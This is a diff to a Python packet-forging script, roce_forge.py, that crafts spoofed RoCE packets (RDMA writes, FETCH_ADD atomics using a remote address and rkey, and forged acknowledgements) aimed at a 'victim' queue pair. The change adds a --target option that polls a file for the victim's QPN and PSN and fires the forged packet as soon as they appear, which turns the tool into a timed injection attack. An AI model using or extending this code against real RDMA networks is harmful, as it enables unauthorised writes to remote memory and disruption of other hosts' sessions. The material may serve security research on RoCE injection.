@@ -10,11 +10,13 @@
 # FETCH_ADD requests (adding 1 at --va under --rkey, no payload); --op ack
 # an RC ACKNOWLEDGE of --psn with an AETH of --syndrome (default 0x1f,
 # an ACK without credits) and --msn: a peer acknowledging early.
+# --target FILE waits for FILE to hold "QPN PSN" and takes --qpn and --psn
+# from it, so that the packet leaves the moment the victim writes it.
 #
 #   roce_forge.py --src IP --dst IP --qpn N --psn N [--va ADDR --rkey KEY]
 #                 [--pkey P] [--count N] [--len BYTES] [--fill BYTE]
 #                 [--op only|first|middle|last|ud|fadd|ack] [--total BYTES]
-#                 [--syndrome S] [--msn N]
+#                 [--syndrome S] [--msn N] [--target FILE]
 #                 [--qkey Q] [--sqpn N] [--broadcast] [--raw]
 #
 # The socket is bound to --src, which must be an address of this host;
@@ -30,6 +32,7 @@ import argparse
 import os
 import socket
 import struct
+import time
 import zlib
 
 ROCE_PORT = 4791
@@ -86,8 +89,9 @@ def main():
     p = argparse.ArgumentParser()
     p.add_argument('--src', required=True)
     p.add_argument('--dst', required=True)
-    p.add_argument('--qpn', type=lambda x: int(x, 0), required=True)
-    p.add_argument('--psn', type=lambda x: int(x, 0), required=True)
+    p.add_argument('--qpn', type=lambda x: int(x, 0), default=0)
+    p.add_argument('--psn', type=lambda x: int(x, 0), default=0)
+    p.add_argument('--target')
     p.add_argument('--va', type=lambda x: int(x, 0), default=0)
     p.add_argument('--rkey', type=lambda x: int(x, 0), default=0)
     p.add_argument('--qkey', type=lambda x: int(x, 0), default=0x80010000)
@@ -103,6 +107,13 @@ def main():
     p.add_argument('--broadcast', action='store_true')
     p.add_argument('--raw', action='store_true')
     a = p.parse_args()
+    while a.target:
+        try:
+            with open(a.target) as f:
+                a.qpn, a.psn = (int(x) for x in f.read().split())
+            break
+        except (OSError, ValueError):
+            time.sleep(0.02)
 
     if a.raw:
         # The kernel fills in the header checksum and leaves ID 0 (DF).
